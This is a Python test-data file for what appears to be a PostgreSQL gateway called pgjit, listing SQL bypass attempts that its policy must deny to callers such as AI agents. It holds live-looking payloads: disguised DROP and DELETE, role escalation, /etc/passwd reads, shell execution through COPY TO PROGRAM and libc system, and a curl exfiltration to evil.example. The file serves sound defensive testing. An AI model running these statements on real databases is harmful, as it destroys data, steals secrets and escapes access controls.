"""A corpus of statements an AI agent (or anyone) must not get past the default policy.

Plain data, so that the same list can drive the pure policy test
(``test_bypass_corpus.py``) and a live gateway test: every ``Attack.sql`` must be
denied (or, at worst, held for approval) for a caller in an unconfigured group
such as ``agents``. ``forbids`` says what the statement would achieve if it got
through; ``setup`` notes what a live test needs for the attack to be meaningful
(the statement must be denied either way).
"""

from __future__ import annotations

from typing import NamedTuple


class Attack(NamedTuple):
    name: str
    sql: str
    forbids: str
    setup: str | None = None


ATTACKS: list[Attack] = [
    # --- plain writes and DDL, in disguise -------------------------------------
    Attack("drop table", "DROP TABLE accounts", "DDL", "table accounts"),
    Attack("drop table upper case", "DrOp TaBlE ACCOUNTS", "DDL"),
    Attack("drop with comments", "/* harmless */ DROP/**/TABLE -- x\n accounts", "DDL"),
    Attack("drop quoted name", 'DROP TABLE "accounts"', "DDL"),
    Attack("drop unicode escaped name", 'DROP TABLE U&"\\0061ccounts"', "DDL"),
    Attack("delete without where", "DELETE FROM accounts", "write"),
    Attack("update", "UPDATE accounts SET bal = 0 WHERE id = 1", "write"),
    Attack("insert", "INSERT INTO accounts(id) VALUES (99)", "write"),
    Attack("insert select", "INSERT INTO audit_copy SELECT * FROM accounts", "write"),
    Attack("upsert", "INSERT INTO accounts(id) VALUES (1) ON CONFLICT (id) DO UPDATE SET bal = 0", "write"),
    Attack("truncate", "TRUNCATE accounts CASCADE", "write"),
    Attack(
        "merge",
        "MERGE INTO accounts a USING (SELECT 1 AS id) s ON a.id = s.id WHEN MATCHED THEN DELETE",
        "write",
    ),
    Attack("select into", "SELECT * INTO stolen FROM accounts", "write (creates a table)"),
    Attack("select into temp", "SELECT * INTO TEMP stolen FROM accounts", "write (creates a table)"),
    Attack("create table as", "CREATE TABLE stolen AS SELECT * FROM accounts", "write"),
    Attack("create matview", "CREATE MATERIALIZED VIEW mv AS SELECT * FROM accounts", "DDL"),
    Attack("create table", "CREATE TABLE t (a int)", "DDL"),
    Attack("create temp table", "CREATE TEMP TABLE t (a int)", "DDL"),
    Attack("alter table", "ALTER TABLE accounts ADD COLUMN pwned int", "DDL"),
    Attack("create index", "CREATE INDEX CONCURRENTLY ON accounts (name)", "DDL"),
    Attack("create view", "CREATE VIEW v AS SELECT * FROM accounts", "DDL"),
    Attack("create schema with elements", "CREATE SCHEMA s CREATE TABLE t (a int)", "DDL"),
    Attack("comment on", "COMMENT ON TABLE accounts IS 'pwned'", "DDL"),
    Attack("grant", "GRANT ALL ON accounts TO PUBLIC", "privilege change"),
    Attack("grant role", "GRANT pg_read_server_files TO CURRENT_USER", "privilege change"),
    Attack("revoke", "REVOKE SELECT ON accounts FROM PUBLIC", "privilege change"),
    Attack("create role", "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'", "privilege change"),
    Attack("alter role", "ALTER ROLE CURRENT_USER SUPERUSER", "privilege change"),
    Attack("lock table", "LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE", "blocking everyone"),
    Attack("vacuum full", "VACUUM FULL accounts", "server administration"),
    Attack("reindex", "REINDEX DATABASE postgres", "server administration"),
    Attack("cluster", "CLUSTER accounts USING accounts_pkey", "server administration"),
    Attack("refresh matview", "REFRESH MATERIALIZED VIEW mv", "write"),
    Attack("notify", "NOTIFY jobs, 'run rm -rf'", "signalling other sessions"),
    Attack("copy from stdin", "COPY accounts FROM STDIN", "write"),
    # --- multi-statement smuggling ------------------------------------------------
    Attack("select then drop", "SELECT 1; DROP TABLE accounts", "DDL"),
    Attack("commit then drop", "COMMIT; DROP TABLE accounts", "DDL"),
    Attack("begin delete commit", "BEGIN; DELETE FROM accounts; COMMIT", "write"),
    Attack("empty statements then write", ";;; SELECT 1;; UPDATE accounts SET bal = 0", "write"),
    Attack("comment hides second statement", "SELECT 1 /* ; */; DELETE FROM accounts -- ;", "write"),
    Attack("string looks like end", "SELECT ';'; DELETE FROM accounts", "write"),
    Attack("dollar quote looks like end", "SELECT $x$ $$; $x$; DROP TABLE accounts", "DDL"),
    Attack("E string escape", "SELECT E'\\''; DROP TABLE accounts; --'", "DDL"),
    # --- nested writes -------------------------------------------------------------
    Attack(
        "data-modifying cte",
        "WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d",
        "write",
    ),
    Attack(
        "data-modifying cte deep in subquery",
        "SELECT * FROM (SELECT * FROM (WITH u AS (UPDATE accounts SET bal = 0 RETURNING id)"
        " SELECT * FROM u) x) y",
        "write",
    ),
    Attack(
        "cte named like a table",
        "WITH accounts AS (INSERT INTO accounts(id) VALUES (7) RETURNING *) SELECT * FROM accounts",
        "write",
    ),
    Attack("explain analyze delete", "EXPLAIN ANALYZE DELETE FROM accounts", "write"),
    Attack(
        "explain analyze options",
        "EXPLAIN (ANALYZE true, FORMAT json) UPDATE accounts SET bal = 0",
        "write",
    ),
    Attack("prepare delete", "PREPARE p AS DELETE FROM accounts", "write"),
    Attack("execute unknown prepared", "EXECUTE p", "running a statement pgjit did not see"),
    Attack("prepare and execute", "PREPARE p2 AS DELETE FROM accounts; EXECUTE p2", "write"),
    Attack(
        "explain execute",
        "EXPLAIN ANALYZE EXECUTE p3",
        "running a statement pgjit did not see",
    ),
    Attack(
        "declare cursor over data-modifying cte",
        "DECLARE c CURSOR FOR WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d",
        "write",
    ),
    Attack(
        "copy of data-modifying query",
        "COPY (WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d) TO STDOUT",
        "write",
    ),
    # --- code ------------------------------------------------------------------------
    Attack("do with execute", "DO $$ BEGIN EXECUTE 'DROP TABLE accounts'; END $$", "dynamic SQL"),
    Attack(
        "do with concatenated execute",
        "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE ' || 'accounts'; END $$",
        "dynamic SQL",
    ),
    Attack("do with static delete", "DO $$ BEGIN DELETE FROM accounts; END $$", "write"),
    Attack(
        "do with custom dollar tag",
        "DO $body$ BEGIN PERFORM 1; TRUNCATE accounts; END $body$",
        "write",
    ),
    Attack("do in plpython", "DO LANGUAGE plpython3u $$ import os; os.system('id') $$", "code"),
    Attack("do with unparsable body", "DO $$ BEGIN this is not plpgsql; END $$", "code"),
    Attack(
        "create sql function",
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM accounts $$",
        "code + write",
    ),
    Attack(
        "create sql function begin atomic",
        "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC DELETE FROM accounts; SELECT 1; END",
        "code + write",
    ),
    Attack(
        "create plpgsql function with execute",
        "CREATE OR REPLACE FUNCTION f(t text) RETURNS void LANGUAGE plpgsql AS"
        " $$ BEGIN EXECUTE format('DROP TABLE %I', t); END $$",
        "code + dynamic SQL",
    ),
    Attack(
        "create security definer function",
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql SECURITY DEFINER SET role = postgres"
        " AS 'SELECT 1'",
        "code + role change",
    ),
    Attack(
        "create c function",
        "CREATE FUNCTION sys(cstring) RETURNS int LANGUAGE c AS '/lib/x86_64-linux-gnu/libc.so.6', 'system'",
        "code",
    ),
    Attack(
        "create procedure and call",
        "CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM accounts $$; CALL p()",
        "code + write",
    ),
    Attack("call", "CALL some_procedure()", "running code pgjit cannot see"),
    Attack(
        "create rule",
        "CREATE RULE r AS ON SELECT TO accounts DO INSTEAD DELETE FROM orders",
        "code + write",
    ),
    Attack(
        "create trigger",
        "CREATE TRIGGER tr BEFORE INSERT ON accounts FOR EACH ROW EXECUTE FUNCTION evil()",
        "code",
    ),
    Attack(
        "create event trigger",
        "CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION evil()",
        "code",
    ),
    Attack("create extension", "CREATE EXTENSION dblink", "code"),
    Attack("load", "LOAD '/tmp/evil.so'", "code"),
    # --- SQL executors -----------------------------------------------------------------
    Attack("query_to_xml", "SELECT query_to_xml('DELETE FROM accounts RETURNING *', true, true, '')", "dynamic SQL"),
    Attack(
        "query_to_xml qualified and quoted",
        "SELECT \"pg_catalog\".\"query_to_xml\"('SELECT * FROM secrets', true, true, '')",
        "dynamic SQL",
    ),
    Attack("table_to_xml", "SELECT table_to_xml('payroll.salaries', true, true, '')", "reading a table by name"),
    Attack("cursor_to_xml", "SELECT cursor_to_xml('c', 10, true, true, '')", "dynamic SQL"),
    Attack("database_to_xml", "SELECT database_to_xml(true, true, '')", "reading everything"),
    Attack("ts_stat", "SELECT * FROM ts_stat('SELECT to_tsvector(secret) FROM secrets')", "dynamic SQL"),
    Attack("dblink", "SELECT * FROM dblink('dbname=postgres', 'SELECT 1') AS t(a int)", "dynamic SQL"),
    Attack("dblink_exec", "SELECT dblink_exec('dbname=postgres user=postgres', 'DROP TABLE accounts')", "dynamic SQL"),
    Attack("dblink_connect", "SELECT dblink_connect('c', 'dbname=postgres')", "outbound connection"),
    Attack(
        "executor in function argument",
        "SELECT length(query_to_xml('DELETE FROM accounts', true, true, '')::text)",
        "dynamic SQL",
    ),
    Attack(
        "executor in where clause",
        "SELECT 1 FROM accounts WHERE EXISTS (SELECT query_to_xml('DELETE FROM accounts', true, true, ''))",
        "dynamic SQL",
    ),
    # --- files and programs -----------------------------------------------------------------
    Attack("copy to program", "COPY accounts TO PROGRAM 'curl -d @- https://evil.example'", "running a program"),
    Attack("copy from program", "COPY accounts FROM PROGRAM 'id'", "running a program"),
    Attack("copy query to program", "COPY (SELECT 1) TO PROGRAM 'sh -c id'", "running a program"),
    Attack("copy from file", "COPY accounts FROM '/etc/passwd'", "reading a server file"),
    Attack("copy to file", "COPY accounts TO '/tmp/dump.csv'", "writing a server file"),
    Attack("pg_read_file", "SELECT pg_read_file('/etc/passwd')", "reading a server file"),
    Attack("pg_read_file upper case qualified", "SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", "reading a server file"),
    Attack("pg_read_file quoted", "SELECT \"pg_read_file\"('/etc/passwd')", "reading a server file"),
    Attack(
        "pg_read_file unicode escape",
        "SELECT U&\"pg_\\0072ead_file\"('/etc/passwd')",
        "reading a server file",
    ),
    Attack(
        "pg_read_file unicode escape custom char",
        "SELECT U&\"pg_!0072ead_file\" UESCAPE '!' ('/etc/passwd')",
        "reading a server file",
    ),
    Attack(
        "pg_read_file attribute notation",
        "SELECT ('/etc/passwd'::text).pg_read_file",
        "reading a server file",
    ),
    Attack(
        "dblink_exec attribute notation",
        "SELECT ('DROP TABLE accounts'::text).dblink_exec",
        "dynamic SQL",
    ),
    Attack("nextval attribute notation", "SELECT ('accounts_id_seq'::regclass).nextval", "write (sequence)"),
    Attack("pg_read_file in from", "SELECT * FROM pg_read_file('/etc/passwd')", "reading a server file"),
    Attack("pg_read_binary_file", "SELECT pg_read_binary_file('global/pg_control')", "reading a server file"),
    Attack("pg_ls_dir", "SELECT pg_ls_dir('.')", "listing server files"),
    Attack("pg_ls_waldir", "SELECT * FROM pg_ls_waldir()", "listing server files"),
    Attack("pg_stat_file", "SELECT pg_stat_file('postgresql.conf')", "reading server files"),
    Attack("lo_import", "SELECT lo_import('/etc/passwd')", "reading a server file"),
    Attack("lo_export", "SELECT lo_export(16400, '/tmp/x')", "writing a server file"),
    Attack("lo_get", "SELECT lo_get(16400)", "large objects"),
    Attack(
        "file read in subquery of values",
        "VALUES ((SELECT pg_read_file('/etc/passwd')))",
        "reading a server file",
    ),
    Attack(
        "file read in lateral",
        "SELECT * FROM accounts a, LATERAL (SELECT pg_read_file('/etc/' || a.name)) f",
        "reading a server file",
    ),
    Attack(
        "file read in order by",
        "SELECT id FROM accounts ORDER BY length(pg_read_file('/etc/passwd'))",
        "reading a server file",
    ),
    # --- server control ---------------------------------------------------------------------
    Attack("pg_terminate_backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "killing sessions"),
    Attack("pg_cancel_backend", "SELECT pg_cancel_backend(1234)", "cancelling sessions"),
    Attack("pg_reload_conf", "SELECT pg_reload_conf()", "server control"),
    Attack("pg_switch_wal", "SELECT pg_switch_wal()", "server control"),
    Attack(
        "logical slot",
        "SELECT * FROM pg_create_logical_replication_slot('s', 'test_decoding')",
        "server control",
    ),
    Attack("alter system", "ALTER SYSTEM SET log_statement = 'none'", "server configuration"),
    Attack("checkpoint", "CHECKPOINT", "server administration"),
    Attack("nextval", "SELECT nextval('accounts_id_seq')", "write (sequence)"),
    Attack("setval", "SELECT setval('accounts_id_seq', 1)", "write (sequence)"),
    Attack("pg_notify", "SELECT pg_notify('jobs', 'x')", "signalling other sessions"),
    # --- role changes -------------------------------------------------------------------------
    Attack("set role", "SET ROLE postgres", "role change"),
    Attack("set local role", "SET LOCAL ROLE postgres", "role change"),
    Attack("set role quoted", 'SET "role" TO postgres', "role change"),
    Attack("set session authorization", "SET SESSION AUTHORIZATION postgres", "role change"),
    Attack("reset session authorization", "RESET SESSION AUTHORIZATION", "role change"),
    Attack("set_config role", "SELECT set_config('role', 'postgres', false)", "role change"),
    Attack("set_config role upper case", "SELECT set_config('ROLE', 'postgres', false)", "role change"),
    Attack(
        "set_config session_authorization",
        "SELECT pg_catalog.set_config('session_authorization', 'postgres', false)",
        "role change",
    ),
    Attack(
        "set_config with computed name",
        "SELECT set_config(name, 'postgres', false) FROM (VALUES ('ro' || 'le')) v(name)",
        "role change",
    ),
    Attack("alter role set role", "ALTER ROLE CURRENT_USER SET role = 'postgres'", "role change"),
    Attack("set unsafe setting", "SET session_replication_role = replica", "disabling triggers"),
    Attack("set_config unsafe setting", "SELECT set_config('session_replication_role', 'replica', false)", "disabling triggers"),
    Attack("set default_transaction_read_only", "SET default_transaction_read_only = off", "write access"),
    Attack(
        "standard_conforming_strings off",
        "SET standard_conforming_strings = off",
        "making the server read backslashes differently from pgjit (statement smuggling)",
    ),
    Attack(
        "standard_conforming_strings via set_config",
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        "making the server read backslashes differently from pgjit (statement smuggling)",
    ),
    Attack(
        "client_encoding with backslash trail bytes",
        "SET client_encoding = 'SJIS'",
        "making the server read bytes differently from pgjit (statement smuggling)",
    ),
    # --- transactions and misc ------------------------------------------------------------------
    Attack("prepare transaction", "PREPARE TRANSACTION 'x'", "leaving locks behind"),
    Attack("import foreign schema", "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local", "DDL"),
    Attack("security label", "SECURITY LABEL ON TABLE accounts IS 'x'", "DDL"),
    Attack("create user mapping", "CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'postgres')", "DDL"),
    Attack("create database", "CREATE DATABASE evil", "DDL"),
    Attack("drop database", "DROP DATABASE postgres", "DDL"),
    Attack("create subscription", "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", "DDL"),
    Attack("unparsable", "SELEC * FROM accounts", "anything (cannot be checked)"),
    Attack("nul byte hides the rest", "SELECT 1\x00; DROP TABLE accounts", "DDL after a NUL"),
    Attack("unterminated string", "SELECT 'abc", "anything (cannot be checked)"),
]
